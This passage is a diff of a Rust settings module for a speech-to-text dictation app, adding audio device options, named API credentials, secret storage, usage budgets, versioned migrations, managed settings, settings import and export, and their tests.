@@ -1,8 +1,13 @@
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::fs;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+mod managed;
+
+pub use managed::SettingSource;
+
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
 pub struct ShortcutConfig {
     pub modifiers: Vec<String>, // e.g., ["super", "shift"]
     pub key: String,            // e.g., "Space"
@@ -25,7 +30,7 @@ pub enum TranscriptionProvider {
     Groq,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
 pub struct TranscriptionConfig {
     pub provider: TranscriptionProvider,
 }
@@ -38,18 +43,237 @@ impl Default for TranscriptionConfig {
     }
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize, Default)]
+/// Capture settings for one input device, keyed in `Settings` by `audio::device_id`.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Default)]
+#[serde(default)]
+pub struct AudioDeviceConfig {
+    /// Weight of each input channel in the mono mix, e.g. `[0.0, 1.0]` for
+    /// the second channel only. Empty averages all channels.
+    pub channel_mix: Vec<f32>,
+    /// Input gain in dB, applied after mixing.
+    pub gain_db: f32,
+    /// Preferred sample rate; the device default when unset or unsupported.
+    pub sample_rate: Option<u32>,
+    /// Preferred buffer size in frames; the driver default when unset.
+    pub buffer_size: Option<u32>,
+}
+
+/// Optional processing applied to captured audio, in this order.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+#[serde(default)]
+pub struct AudioProcessingConfig {
+    /// Remove rumble and hum below `high_pass_hz`.
+    pub high_pass: bool,
+    pub high_pass_hz: f32,
+    /// Spectral gating of steady background noise (fans, hiss).
+    pub noise_suppression: bool,
+    /// Automatic gain control towards `agc_target_dbfs` RMS.
+    pub agc: bool,
+    pub agc_target_dbfs: f32,
+}
+
+impl Default for AudioProcessingConfig {
+    fn default() -> Self {
+        Self {
+            high_pass: false,
+            high_pass_hz: 80.0,
+            noise_suppression: false,
+            agc: false,
+            agc_target_dbfs: -20.0,
+        }
+    }
+}
+
+/// Where to find a provider's API key other than the environment and the
+/// keychain; see `api_keys` for the order they are tried in.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Default)]
+#[serde(default)]
+pub struct ApiKeySourceConfig {
+    /// Read the key from this file; surrounding whitespace is ignored.
+    pub file: Option<PathBuf>,
+    /// Run this through the shell and use its output, e.g. `op read op://dev/openai/key`.
+    pub command: Option<String>,
+}
+
+/// Name of the credential every provider has: the key stored before named
+/// credentials existed.
+pub const DEFAULT_CREDENTIAL: &str = "default";
+
+/// Named keys for one provider, e.g. "work" and "personal", so dictation can
+/// be billed to different accounts. The secrets themselves live in the
+/// secret store; only their names are kept here.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Default)]
+#[serde(default)]
+pub struct ProviderCredentials {
+    /// Credentials besides `default`, in the order they were added
+    pub names: Vec<String>,
+    /// The credential in use; `default` when unset
+    pub selected: Option<String>,
+    /// Credential to use while dictating into an app, keyed by the app's
+    /// bundle id (macOS), e.g. `{"com.tinyspeck.slackmacgap": "work"}`
+    pub apps: BTreeMap<String, String>,
+}
+
+impl ProviderCredentials {
+    pub fn contains(&self, name: &str) -> bool {
+        name == DEFAULT_CREDENTIAL || self.names.iter().any(|n| n == name)
+    }
+}
+
+/// The credential to use for a provider, taking `app`'s override into account.
+pub fn selected_credential<'a>(
+    settings: &'a Settings,
+    provider_id: &str,
+    app: Option<&str>,
+) -> &'a str {
+    let Some(credentials) = settings.credentials.get(provider_id) else {
+        return DEFAULT_CREDENTIAL;
+    };
+    app.and_then(|app| credentials.apps.get(app))
+        .or(credentials.selected.as_ref())
+        .map(String::as_str)
+        .unwrap_or(DEFAULT_CREDENTIAL)
+}
+
+/// Backend for keys entered in the settings window; see `secrets`.
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq, Default)]
+#[serde(rename_all = "snake_case")]
+pub enum SecretStoreKind {
+    /// The macOS Keychain, Windows Credential Manager or the Linux Secret Service
+    #[default]
+    Keychain,
+    /// A password-encrypted file next to the settings, for systems without a keychain
+    EncryptedFile,
+}
+
+/// Prices and the monthly budget for usage tracking; see `usage`.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+#[serde(default)]
+pub struct UsageConfig {
+    /// Price per minute of audio, keyed by model. Models without a price
+    /// count as free.
+    pub prices: BTreeMap<String, f64>,
+    /// Spending limit per calendar month, in the currency of `prices`
+    pub monthly_budget: Option<f64>,
+    /// Refuse to transcribe once the budget is used up, instead of only warning
+    pub block_over_budget: bool,
+}
+
+impl Default for UsageConfig {
+    fn default() -> Self {
+        Self {
+            // List prices in USD at the time of writing
+            prices: BTreeMap::from([
+                ("whisper-1".to_string(), 0.006),
+                ("whisper-large-v3".to_string(), 0.111 / 60.0),
+                ("whisper-large-v3-turbo".to_string(), 0.04 / 60.0),
+            ]),
+            monthly_budget: None,
+            block_over_budget: false,
+        }
+    }
+}
+
+fn default_level_meter_bars() -> usize {
+    crate::meter::DEFAULT_BAR_COUNT
+}
+
+fn default_max_recording_secs() -> u32 {
+    crate::audio::DEFAULT_MAX_RECORDING_SECS
+}
+
+fn default_pre_roll_ms() -> u32 {
+    crate::audio::DEFAULT_PRE_ROLL_MS
+}
+
+/// Version of the settings file format written by this build. Bump it and add
+/// a step to `migrate` for any change that `serde(default)` can't absorb.
+pub const SETTINGS_VERSION: u32 = 2;
+
+/// How often the settings file is checked for outside edits.
+const SETTINGS_WATCH_INTERVAL: std::time::Duration = std::time::Duration::from_secs(1);
+
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
 pub struct Settings {
+    /// Format version; files from before versioning count as 0
+    #[serde(default)]
+    pub version: u32,
     #[serde(default)]
     pub shortcut: ShortcutConfig,
-    // Backwards compat: old settings files may contain "api_keys"; consumed but never written
-    #[serde(default, skip_serializing)]
-    #[allow(dead_code)]
-    pub api_keys: Option<serde_json::Value>,
     #[serde(default)]
     pub transcription: TranscriptionConfig,
+    /// Key files and commands, keyed by provider id
+    #[serde(default)]
+    pub api_key_sources: BTreeMap<String, ApiKeySourceConfig>,
+    /// Where keys entered in the settings window are stored
+    #[serde(default)]
+    pub secret_store: SecretStoreKind,
+    /// Named keys and which one is in use, keyed by provider id
+    #[serde(default)]
+    pub credentials: BTreeMap<String, ProviderCredentials>,
+    /// Prices and the monthly budget for usage tracking
+    #[serde(default)]
+    pub usage: UsageConfig,
+    /// Preferred input devices, most preferred first. The first one connected is used.
+    #[serde(default)]
+    pub audio_input_devices: Vec<String>,
+    #[serde(default)]
+    pub audio_device_configs: BTreeMap<String, AudioDeviceConfig>,
+    #[serde(default)]
+    pub audio_processing: AudioProcessingConfig,
+    /// Recordings stop and are transcribed after this many seconds (0 for no
+    /// time limit; the upload size limit still applies)
+    #[serde(default = "default_max_recording_secs")]
+    pub max_recording_secs: u32,
+    /// Keep the microphone open between recordings so each one starts with
+    /// the audio from just before the key press. Off unless opted into.
+    #[serde(default)]
+    pub pre_roll: bool,
+    /// How much audio from before the key press to keep, in milliseconds
+    #[serde(default = "default_pre_roll_ms")]
+    pub pre_roll_ms: u32,
+    /// Number of bars in the level meters
+    #[serde(default = "default_level_meter_bars")]
+    pub level_meter_bars: usize,
+    /// Extra phrases to treat as Whisper hallucinations, on top of the built-in list
     #[serde(default)]
-    pub audio_input_device: Option<String>,
+    pub hallucination_phrases: Vec<String>,
+}
+
+impl Default for Settings {
+    fn default() -> Self {
+        Self {
+            version: SETTINGS_VERSION,
+            shortcut: ShortcutConfig::default(),
+            transcription: TranscriptionConfig::default(),
+            api_key_sources: BTreeMap::new(),
+            secret_store: SecretStoreKind::default(),
+            credentials: BTreeMap::new(),
+            usage: UsageConfig::default(),
+            audio_input_devices: Vec::new(),
+            audio_device_configs: BTreeMap::new(),
+            audio_processing: AudioProcessingConfig::default(),
+            max_recording_secs: default_max_recording_secs(),
+            pre_roll: false,
+            pre_roll_ms: default_pre_roll_ms(),
+            level_meter_bars: default_level_meter_bars(),
+            hallucination_phrases: Vec::new(),
+        }
+    }
+}
+
+impl Settings {
+    /// Make `device` the most preferred input device, keeping the others as
+    /// fallbacks in their existing order. `None` clears the list (system default).
+    pub fn prefer_audio_input_device(&mut self, device: Option<String>) {
+        match device {
+            Some(device) => {
+                self.audio_input_devices.retain(|d| *d != device);
+                self.audio_input_devices.insert(0, device);
+            }
+            None => self.audio_input_devices.clear(),
+        }
+    }
 }
 
 fn get_settings_path() -> PathBuf {
@@ -61,26 +285,434 @@ fn get_settings_path() -> PathBuf {
     config_dir.join("settings.json")
 }
 
+/// Settings read from disk, plus the problems found along the way.
+pub struct LoadedSettings {
+    pub settings: Settings,
+    /// One message per problem; each has already been repaired in `settings`
+    pub warnings: Vec<String>,
+}
+
 pub fn load_settings() -> Settings {
+    load_settings_with_warnings().settings
+}
+
+pub fn load_settings_with_warnings() -> LoadedSettings {
+    load_settings_from(&get_settings_path())
+}
+
+/// Re-read the settings file after it changed on disk. Unlike
+/// `load_settings`, unparseable content is left in place and returned as an
+/// error: it is most likely an edit in progress. A missing file means defaults
+/// (plus any managed settings).
+pub fn reload_settings() -> Result<LoadedSettings, String> {
+    reload_settings_from(&get_settings_path())
+}
+
+fn reload_settings_from(path: &Path) -> Result<LoadedSettings, String> {
+    let content = match fs::read_to_string(path) {
+        Ok(content) => content,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => "{}".to_string(),
+        Err(e) => return Err(format!("Failed to read settings file: {}", e)),
+    };
+    let mut warnings = Vec::new();
+    let settings = parse_settings(&content, &mut warnings)?;
+    Ok(LoadedSettings { settings, warnings })
+}
+
+/// Watch the settings file for changes, calling `on_change` after each one,
+/// including the app's own saves. Runs for the lifetime of the process.
+pub fn watch_settings_file(on_change: impl Fn() + Send + 'static) {
     let path = get_settings_path();
+    let stamp = move || {
+        fs::metadata(&path)
+            .ok()
+            .map(|m| (m.modified().ok(), m.len()))
+    };
+    std::thread::spawn(move || {
+        let mut known = stamp();
+        loop {
+            std::thread::sleep(SETTINGS_WATCH_INTERVAL);
+            let current = stamp();
+            if current != known {
+                on_change();
+                known = current;
+            }
+        }
+    });
+}
 
-    if path.exists() {
-        match fs::read_to_string(&path) {
-            Ok(content) => match serde_json::from_str(&content) {
-                Ok(settings) => return settings,
-                Err(e) => tracing::warn!("Failed to parse settings: {}", e),
-            },
-            Err(e) => tracing::warn!("Failed to read settings file: {}", e),
+fn load_settings_from(path: &Path) -> LoadedSettings {
+    let mut warnings = Vec::new();
+
+    let content = match fs::read_to_string(path) {
+        Ok(content) => Ok(content),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok("{}".to_string()),
+        Err(e) => Err(e),
+    };
+    let settings = match content {
+        Ok(content) => match parse_settings(&content, &mut warnings) {
+            Ok(settings) => settings,
+            Err(e) => {
+                // Keep the user's file instead of overwriting it on the next save
+                let message = match backup_settings_file(path) {
+                    Ok(backup) => format!(
+                        "Settings could not be read ({}). Defaults are in use; the old file was kept as {}.",
+                        e,
+                        backup.display()
+                    ),
+                    Err(backup_err) => format!(
+                        "Settings could not be read ({}) and could not be backed up ({}). Defaults are in use.",
+                        e, backup_err
+                    ),
+                };
+                warnings.push(message);
+                Settings::default()
+            }
+        },
+        Err(e) => {
+            warnings.push(format!(
+                "Failed to read settings file: {}. Defaults are in use.",
+                e
+            ));
+            Settings::default()
+        }
+    };
+
+    for warning in &warnings {
+        tracing::warn!("{}", warning);
+    }
+    LoadedSettings { settings, warnings }
+}
+
+/// Parse a settings file of any version into current settings, with the
+/// managed layer applied and invalid values repaired. Errors only when the
+/// file can't be understood at all.
+fn parse_settings(content: &str, warnings: &mut Vec<String>) -> Result<Settings, String> {
+    let document = read_document(content, warnings)?;
+    let managed = managed::load(warnings);
+    settings_from_layers(document, managed.as_ref(), warnings)
+}
+
+/// Build settings from the user's document with `managed` on top. Managed
+/// values that don't fit the settings are dropped rather than failing the
+/// user's file along with them.
+fn settings_from_layers(
+    document: serde_json::Map<String, serde_json::Value>,
+    managed: Option<&serde_json::Map<String, serde_json::Value>>,
+    warnings: &mut Vec<String>,
+) -> Result<Settings, String> {
+    if let Some(managed) = managed {
+        let mut layered = document.clone();
+        merge_json(&mut layered, managed);
+        let mut layered_warnings = Vec::new();
+        match settings_from_document(layered, &mut layered_warnings) {
+            Ok(settings) => {
+                warnings.extend(layered_warnings);
+                return Ok(settings);
+            }
+            Err(e) => warnings.push(format!("Managed settings are ignored: {}", e)),
+        }
+    }
+    settings_from_document(document, warnings)
+}
+
+/// Parse settings JSON of any version into a current-version document.
+fn read_document(
+    content: &str,
+    warnings: &mut Vec<String>,
+) -> Result<serde_json::Map<String, serde_json::Value>, String> {
+    let value: serde_json::Value = serde_json::from_str(content).map_err(|e| e.to_string())?;
+    let serde_json::Value::Object(mut object) = value else {
+        return Err("expected a JSON object".to_string());
+    };
+
+    let version = object.get("version").and_then(|v| v.as_u64()).unwrap_or(0) as u32;
+    if version > SETTINGS_VERSION {
+        warnings.push(format!(
+            "Settings were written by a newer version of Scrivano (format {}); options this version doesn't know are ignored.",
+            version
+        ));
+    } else {
+        migrate(&mut object, version);
+    }
+    object.insert("version".to_string(), SETTINGS_VERSION.into());
+    Ok(object)
+}
+
+fn settings_from_document(
+    mut document: serde_json::Map<String, serde_json::Value>,
+    warnings: &mut Vec<String>,
+) -> Result<Settings, String> {
+    repair_provider(&mut document, warnings);
+
+    let mut settings: Settings =
+        serde_json::from_value(serde_json::Value::Object(document)).map_err(|e| e.to_string())?;
+    warnings.extend(validate_settings(&mut settings));
+    Ok(settings)
+}
+
+/// Overlay `overlay` onto `base`, merging nested objects key by key.
+fn merge_json(
+    base: &mut serde_json::Map<String, serde_json::Value>,
+    overlay: &serde_json::Map<String, serde_json::Value>,
+) {
+    for (key, value) in overlay {
+        match (base.get_mut(key), value) {
+            (Some(serde_json::Value::Object(base)), serde_json::Value::Object(overlay)) => {
+                merge_json(base, overlay)
+            }
+            _ => {
+                base.insert(key.clone(), value.clone());
+            }
+        }
+    }
+}
+
+fn to_document(settings: &Settings) -> Result<serde_json::Map<String, serde_json::Value>, String> {
+    match serde_json::to_value(settings) {
+        Ok(serde_json::Value::Object(object)) => Ok(object),
+        Ok(_) => Err("Failed to serialize settings: not an object".to_string()),
+        Err(e) => Err(format!("Failed to serialize settings: {}", e)),
+    }
+}
+
+/// The user's own settings file as a document, without the managed layer.
+fn read_user_document(path: &Path) -> serde_json::Map<String, serde_json::Value> {
+    fs::read_to_string(path)
+        .ok()
+        .and_then(|content| read_document(&content, &mut Vec::new()).ok())
+        .unwrap_or_default()
+}
+
+/// Settings that say where this machine's API keys come from. They stay out
+/// of bundles: a key command is run as soon as it is loaded, so importing
+/// one from someone else's bundle would run their command.
+const KEY_SETTINGS: &[&str] = &["api_key_sources", "secret_store", "credentials"];
+
+/// Settings as a JSON bundle for setting up other machines. Where keys come
+/// from (`KEY_SETTINGS`) is left out, and the keys themselves are never in
+/// settings.
+pub fn export_settings(settings: &Settings) -> Result<String, String> {
+    let mut document = to_document(settings)?;
+    for key in KEY_SETTINGS {
+        document.remove(*key);
+    }
+    serde_json::to_string_pretty(&document).map_err(|e| format!("Failed to export settings: {}", e))
+}
+
+/// Apply an exported bundle on top of `current`. A bundle may be partial
+/// (e.g. only `audio_processing`); settings it leaves out are kept, and
+/// `KEY_SETTINGS` in it are ignored.
+pub fn import_settings(current: &Settings, bundle: &str) -> Result<LoadedSettings, String> {
+    let mut warnings = Vec::new();
+    let mut imported = read_document(bundle, &mut warnings)
+        .map_err(|e| format!("Invalid settings bundle: {}", e))?;
+    for key in KEY_SETTINGS {
+        if imported.remove(*key).is_some() {
+            warnings.push(format!(
+                "Ignored \"{}\" in the imported settings; set up API keys on this machine",
+                key
+            ));
+        }
+    }
+    let mut document = to_document(current)?;
+    merge_json(&mut document, &imported);
+    let managed = managed::load(&mut warnings);
+    let settings = settings_from_layers(document, managed.as_ref(), &mut warnings)
+        .map_err(|e| format!("Invalid settings bundle: {}", e))?;
+    Ok(LoadedSettings { settings, warnings })
+}
+
+/// Where each setting's value comes from, keyed by dotted path (e.g.
+/// `audio_processing.agc`). Settings not listed use their default.
+pub fn settings_provenance() -> BTreeMap<String, SettingSource> {
+    let user = read_user_document(&get_settings_path());
+    let managed = managed::load(&mut Vec::new());
+    managed::provenance(&user, managed.as_ref())
+}
+
+/// Put back managed values that `settings` was changed away from. Returns
+/// the dotted paths of the managed settings that had been changed.
+pub fn enforce_managed_settings(settings: &mut Settings) -> Vec<String> {
+    let Some(managed) = managed::load(&mut Vec::new()) else {
+        return Vec::new();
+    };
+    let Ok(document) = to_document(settings) else {
+        return Vec::new();
+    };
+    let changed = managed::differing_paths(&document, &managed);
+    match settings_from_layers(document, Some(&managed), &mut Vec::new()) {
+        Ok(enforced) if enforced != *settings => {
+            *settings = enforced;
+            changed
+        }
+        _ => Vec::new(),
+    }
+}
+
+/// Upgrade a settings document from `version` to `SETTINGS_VERSION`, one step at a time.
+fn migrate(object: &mut serde_json::Map<String, serde_json::Value>, version: u32) {
+    if version < 1 {
+        migrate_v0_to_v1(object);
+    }
+    if version < 2 {
+        migrate_v1_to_v2(object);
+    }
+}
+
+/// v1 moved API keys out of the settings file and into the keychain.
+fn migrate_v0_to_v1(object: &mut serde_json::Map<String, serde_json::Value>) {
+    object.remove("api_keys");
+}
+
+/// v2 replaced the single `audio_input_device` with a preference list.
+fn migrate_v1_to_v2(object: &mut serde_json::Map<String, serde_json::Value>) {
+    let Some(serde_json::Value::String(device)) = object.remove("audio_input_device") else {
+        return;
+    };
+    let devices = object
+        .entry("audio_input_devices")
+        .or_insert_with(|| serde_json::Value::Array(Vec::new()));
+    if let Some(devices) = devices.as_array_mut() {
+        devices.retain(|d| d.as_str() != Some(device.as_str()));
+        devices.insert(0, serde_json::Value::String(device));
+    }
+}
+
+/// An unknown provider would fail the typed parse and lose the whole file, so
+/// it is reset here instead.
+fn repair_provider(
+    object: &mut serde_json::Map<String, serde_json::Value>,
+    warnings: &mut Vec<String>,
+) {
+    let Some(provider) = object
+        .get_mut("transcription")
+        .and_then(|t| t.get_mut("provider"))
+    else {
+        return;
+    };
+    let id = provider.as_str().unwrap_or_default().to_string();
+    match parse_provider(&id) {
+        Some(parsed) => *provider = get_provider_id(&parsed).into(),
+        None => {
+            let default = TranscriptionProvider::default();
+            warnings.push(format!(
+                "Unknown transcription provider {}; using {} instead.",
+                provider,
+                get_provider_id(&default)
+            ));
+            *provider = get_provider_id(&default).into();
+        }
+    }
+}
+
+/// Check values that parse but can't be used, resetting each to its default.
+/// Returns one message per repaired setting.
+pub fn validate_settings(settings: &mut Settings) -> Vec<String> {
+    let mut warnings = Vec::new();
+    let defaults = Settings::default();
+
+    let shortcut = &settings.shortcut;
+    let unknown_modifier = shortcut
+        .modifiers
+        .iter()
+        .find(|m| parse_modifiers(std::slice::from_ref(*m)).is_empty());
+    if parse_key(&shortcut.key).is_none() {
+        warnings.push(format!(
+            "Unknown shortcut key \"{}\"; the shortcut was reset to {}.",
+            shortcut.key,
+            format_shortcut_display(&defaults.shortcut)
+        ));
+        settings.shortcut = defaults.shortcut.clone();
+    } else if let Some(modifier) = unknown_modifier {
+        warnings.push(format!(
+            "Unknown shortcut modifier \"{}\"; the shortcut was reset to {}.",
+            modifier,
+            format_shortcut_display(&defaults.shortcut)
+        ));
+        settings.shortcut = defaults.shortcut.clone();
+    }
+
+    if settings.level_meter_bars == 0 {
+        warnings.push(format!(
+            "Level meters need at least one bar; using {}.",
+            defaults.level_meter_bars
+        ));
+        settings.level_meter_bars = defaults.level_meter_bars;
+    }
+
+    let usage = &mut settings.usage;
+    usage.prices.retain(|model, price| {
+        let valid = price.is_finite() && *price >= 0.0;
+        if !valid {
+            warnings.push(format!(
+                "Invalid price {} for {}; it was removed.",
+                price, model
+            ));
+        }
+        valid
+    });
+    if let Some(budget) = usage.monthly_budget {
+        if !budget.is_finite() || budget < 0.0 {
+            warnings.push(format!(
+                "Invalid monthly budget {}; the budget was removed.",
+                budget
+            ));
+            usage.monthly_budget = None;
         }
     }
 
-    Settings::default()
+    for (provider, credentials) in &mut settings.credentials {
+        if let Some(selected) = &credentials.selected {
+            if !credentials.contains(selected) {
+                warnings.push(format!(
+                    "Unknown {} credential \"{}\"; using the default key.",
+                    provider, selected
+                ));
+                credentials.selected = None;
+            }
+        }
+        let names = credentials.names.clone();
+        credentials.apps.retain(|app, name| {
+            let known = name == DEFAULT_CREDENTIAL || names.contains(name);
+            if !known {
+                warnings.push(format!(
+                    "Unknown {} credential \"{}\" for {}; using the selected key.",
+                    provider, name, app
+                ));
+            }
+            known
+        });
+    }
+
+    warnings
+}
+
+/// Move an unreadable settings file aside as `settings.json.bak-<unix time>`.
+fn backup_settings_file(path: &Path) -> Result<PathBuf, String> {
+    let timestamp = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_secs())
+        .unwrap_or_default();
+    let mut name = path.file_name().unwrap_or_default().to_os_string();
+    name.push(format!(".bak-{}", timestamp));
+    let backup = path.with_file_name(name);
+    fs::rename(path, &backup).map_err(|e| e.to_string())?;
+    Ok(backup)
 }
 
 pub fn save_settings(settings: &Settings) -> Result<(), String> {
     let path = get_settings_path();
 
-    let content = serde_json::to_string_pretty(settings)
+    let mut document = to_document(settings)?;
+    // Managed values belong to the managed layer; the user file keeps its own
+    // (or the default where it had none)
+    if let Some(managed) = managed::load(&mut Vec::new()) {
+        let mut user = to_document(&Settings::default())?;
+        merge_json(&mut user, &read_user_document(&path));
+        managed::restore_user_values(&mut document, &user, &managed);
+    }
+    let content = serde_json::to_string_pretty(&document)
         .map_err(|e| format!("Failed to serialize settings: {}", e))?;
 
     // Atomic write: write to temp file then rename to prevent corruption on crash
@@ -227,17 +859,49 @@ pub fn format_shortcut_display(config: &ShortcutConfig) -> String {
     format!("{}{}", parts.join(""), key_display)
 }
 
-/// Get API key for a provider from the keychain.
-/// NOTE: Runtime code should use `get_api_key_from_cache` in lib.rs instead
-/// to avoid repeated keychain prompts.  This function is kept for tests.
-#[allow(dead_code)]
-pub fn get_api_key_for_provider(provider: &TranscriptionProvider) -> Option<String> {
-    let provider_key = match provider {
+/// Parse a provider id ("openai", "groq"), case-insensitively.
+pub fn parse_provider(id: &str) -> Option<TranscriptionProvider> {
+    match id.to_lowercase().as_str() {
+        "openai" => Some(TranscriptionProvider::OpenAI),
+        "groq" => Some(TranscriptionProvider::Groq),
+        _ => None,
+    }
+}
+
+/// Get the id used for a provider in settings and the keychain.
+pub fn get_provider_id(provider: &TranscriptionProvider) -> &'static str {
+    match provider {
         TranscriptionProvider::OpenAI => "openai",
         TranscriptionProvider::Groq => "groq",
-    };
+    }
+}
 
-    crate::keychain::get_api_key(provider_key)
+/// Get the API key of the provider's selected credential from its sources
+/// (see `api_keys`).
+/// NOTE: The tray app should use `get_api_key_from_cache` in lib.rs instead
+/// to avoid repeated keychain prompts.  The CLI resolves keys directly.
+pub fn get_api_key_for_provider(
+    settings: &Settings,
+    provider: &TranscriptionProvider,
+) -> Option<String> {
+    api_key_from_store(settings, provider, || {
+        crate::secrets::open_store(settings.secret_store)
+    })
+}
+
+/// The selected credential's key, opening the secret store only when no
+/// environment variable, command or file supplies one.
+fn api_key_from_store(
+    settings: &Settings,
+    provider: &TranscriptionProvider,
+    open_store: impl FnOnce() -> std::sync::Arc<dyn crate::secrets::SecretStore>,
+) -> Option<String> {
+    let id = get_provider_id(provider);
+    let account = crate::api_keys::credential_account(id, selected_credential(settings, id, None));
+    crate::api_keys::resolve(id, settings.api_key_sources.get(id), || {
+        crate::api_keys::read_stored(open_store().as_ref(), &account)
+    })
+    .map(|resolved| resolved.key)
 }
 
 /// Get the model name for a provider
@@ -256,6 +920,14 @@ pub fn get_endpoint_for_provider(provider: &TranscriptionProvider) -> &'static s
     }
 }
 
+/// Get the URL that lists a provider's models, used to check API keys
+pub fn get_models_endpoint_for_provider(provider: &TranscriptionProvider) -> &'static str {
+    match provider {
+        TranscriptionProvider::OpenAI => "https://api.openai.com/v1/models",
+        TranscriptionProvider::Groq => "https://api.groq.com/openai/v1/models",
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -386,14 +1058,73 @@ mod tests {
         );
     }
 
+    #[test]
+    fn test_get_models_endpoint_for_provider() {
+        assert_eq!(
+            get_models_endpoint_for_provider(&TranscriptionProvider::OpenAI),
+            "https://api.openai.com/v1/models"
+        );
+        assert_eq!(
+            get_models_endpoint_for_provider(&TranscriptionProvider::Groq),
+            "https://api.groq.com/openai/v1/models"
+        );
+    }
+
+    #[test]
+    fn test_parse_provider() {
+        assert_eq!(
+            parse_provider("openai"),
+            Some(TranscriptionProvider::OpenAI)
+        );
+        assert_eq!(parse_provider("Groq"), Some(TranscriptionProvider::Groq));
+        assert_eq!(parse_provider("whisper"), None);
+    }
+
+    #[test]
+    fn test_get_provider_id_round_trips() {
+        for provider in [TranscriptionProvider::OpenAI, TranscriptionProvider::Groq] {
+            assert_eq!(parse_provider(get_provider_id(&provider)), Some(provider));
+        }
+    }
+
     #[test]
     fn test_get_api_key_for_provider_no_key() {
-        let key = get_api_key_for_provider(&TranscriptionProvider::Groq);
+        let key = get_api_key_for_provider(&Settings::default(), &TranscriptionProvider::Groq);
         // Should be None if no keychain key is set
         // (unless developer has a real key in keychain, so we just verify it returns Option<String>)
         assert!(key.is_none() || key.is_some());
     }
 
+    #[test]
+    fn test_get_api_key_for_provider_uses_selected_credential() {
+        use crate::secrets::{MemoryStore, SecretStore};
+        use std::sync::Arc;
+
+        let store = Arc::new(MemoryStore::default());
+        store.set("groq", "gsk-default").unwrap();
+        store.set("groq:work", "gsk-work").unwrap();
+        let mut settings = Settings::default();
+        settings.credentials.insert(
+            "groq".to_string(),
+            ProviderCredentials {
+                names: vec!["work".to_string()],
+                selected: Some("work".to_string()),
+                apps: BTreeMap::new(),
+            },
+        );
+
+        let key = api_key_from_store(&settings, &TranscriptionProvider::Groq, || store.clone());
+        if std::env::var("GROQ_API_KEY").is_err() {
+            assert_eq!(key.as_deref(), Some("gsk-work"));
+        }
+
+        settings.credentials.clear();
+        let key = api_key_from_store(&settings, &TranscriptionProvider::Groq, || store.clone());
+        if std::env::var("GROQ_API_KEY").is_err() {
+            assert_eq!(key.as_deref(), Some("gsk-default"));
+        }
+    }
+
     #[test]
     fn test_serialization_transcription_provider() {
         // Test that TranscriptionProvider serializes correctly
@@ -417,49 +1148,357 @@ mod tests {
 
     #[test]
     fn test_backwards_compat_old_settings_with_api_keys() {
-        // Old settings files may have an "api_keys" field; ensure they still deserialize
+        // Unversioned files may have an "api_keys" field; the v0 -> v1 migration drops it
         let json = r#"{
             "shortcut": {"modifiers": ["super"], "key": "Space"},
             "api_keys": {"openai_api_key": "sk-old-key", "groq_api_key": null},
             "transcription": {"provider": "openai"}
         }"#;
-        let settings: Settings = serde_json::from_str(json).unwrap();
+        let mut warnings = Vec::new();
+        let settings = parse_settings(json, &mut warnings).unwrap();
+        assert!(warnings.is_empty());
+        assert_eq!(settings.version, SETTINGS_VERSION);
         assert_eq!(settings.shortcut.key, "Space");
         assert_eq!(
             settings.transcription.provider,
             TranscriptionProvider::OpenAI
         );
+        // Fields added later take their defaults
+        assert_eq!(
+            settings.max_recording_secs,
+            crate::audio::DEFAULT_MAX_RECORDING_SECS
+        );
+        assert!(!settings.pre_roll);
+    }
+
+    #[test]
+    fn test_migrate_single_input_device() {
+        let json = r#"{
+            "version": 1,
+            "audio_input_device": "USB Mic",
+            "audio_input_devices": ["Built-in", "USB Mic"]
+        }"#;
+        let settings = parse_settings(json, &mut Vec::new()).unwrap();
+        assert_eq!(settings.audio_input_devices, vec!["USB Mic", "Built-in"]);
+
+        // A current file is left alone
+        let json = r#"{"version": 2, "audio_input_devices": ["Built-in", "USB Mic"]}"#;
+        let settings = parse_settings(json, &mut Vec::new()).unwrap();
+        assert_eq!(settings.audio_input_devices, vec!["Built-in", "USB Mic"]);
+    }
+
+    #[test]
+    fn test_newer_version_loads_with_warning() {
+        let json = r#"{"version": 99, "pre_roll": true, "some_future_option": 1}"#;
+        let mut warnings = Vec::new();
+        let settings = parse_settings(json, &mut warnings).unwrap();
+        assert!(settings.pre_roll);
+        assert_eq!(settings.version, SETTINGS_VERSION);
+        assert_eq!(warnings.len(), 1);
+    }
+
+    #[test]
+    fn test_invalid_values_are_reset() {
+        let json = r#"{
+            "version": 2,
+            "shortcut": {"modifiers": ["ctrl"], "key": "NotAKey"},
+            "transcription": {"provider": "whisperx"},
+            "level_meter_bars": 0,
+            "max_recording_secs": 90,
+            "usage": {"prices": {"whisper-1": -1.0, "my-model": 0.01}, "monthly_budget": -5.0}
+        }"#;
+        let mut warnings = Vec::new();
+        let settings = parse_settings(json, &mut warnings).unwrap();
+        assert_eq!(warnings.len(), 5, "{:?}", warnings);
+        assert_eq!(settings.shortcut.key, ShortcutConfig::default().key);
+        assert_eq!(
+            settings.transcription.provider,
+            TranscriptionProvider::default()
+        );
+        assert_eq!(settings.level_meter_bars, crate::meter::DEFAULT_BAR_COUNT);
+        assert_eq!(settings.usage.monthly_budget, None);
+        // Valid settings alongside are kept
+        assert_eq!(settings.max_recording_secs, 90);
+        assert_eq!(
+            settings.usage.prices,
+            BTreeMap::from([("my-model".to_string(), 0.01)])
+        );
+
+        let mut settings = Settings::default();
+        settings.shortcut.modifiers.push("hyper".to_string());
+        assert_eq!(validate_settings(&mut settings).len(), 1);
+        assert_eq!(
+            settings.shortcut.modifiers,
+            ShortcutConfig::default().modifiers
